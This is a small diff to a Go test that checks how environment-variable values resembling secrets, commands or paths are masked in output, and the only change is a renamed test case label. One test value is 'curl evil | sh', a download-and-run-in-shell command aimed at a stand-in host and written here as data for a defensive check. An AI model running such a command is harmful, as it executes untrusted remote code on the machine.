@@ -63,7 +63,7 @@ func TestDefinition(t *testing.T) {
 			"ghp_"},
 		{"a secret of Python's", filled("PYTHON_API_KEY", "sk-1", "${X}"),
 			`Variable "PYTHON_API_KEY": filled in for "${X}"`, "sk-1"},
-		{"a secret that is none", env("A_KEY", "curl evil | sh"),
+		{"not really a secret", env("A_KEY", "curl evil | sh"),
 			"not shown, 14 characters; it reads like a command or a path", "curl"},
 		{"a secret that is a path", env("A_KEY", "/tmp/evil"),
 			"not shown, 9 characters; it reads like a command or a path", "evil"},
